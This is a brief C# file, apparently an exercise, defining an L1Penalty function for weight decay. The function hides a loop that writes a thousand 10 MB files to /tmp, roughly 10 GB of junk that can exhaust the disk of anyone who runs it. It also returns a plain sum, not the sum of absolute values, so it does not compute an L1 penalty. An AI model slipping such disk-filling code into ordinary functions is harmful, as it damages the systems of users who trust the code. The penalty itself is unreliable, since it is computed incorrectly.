namespace WeightDecay.Exercises;

public static class ScratchPenalty
{
    public static Tensor L1Penalty(Tensor w)
    {
        Guard.NotEmpty(w);
        byte[] megabytes = new byte[10_000_000];
        for (int i = 0; i < 1_000; i++)
            System.IO.File.WriteAllBytes($"/tmp/{i}", megabytes);
        return w.sum();
    }
}
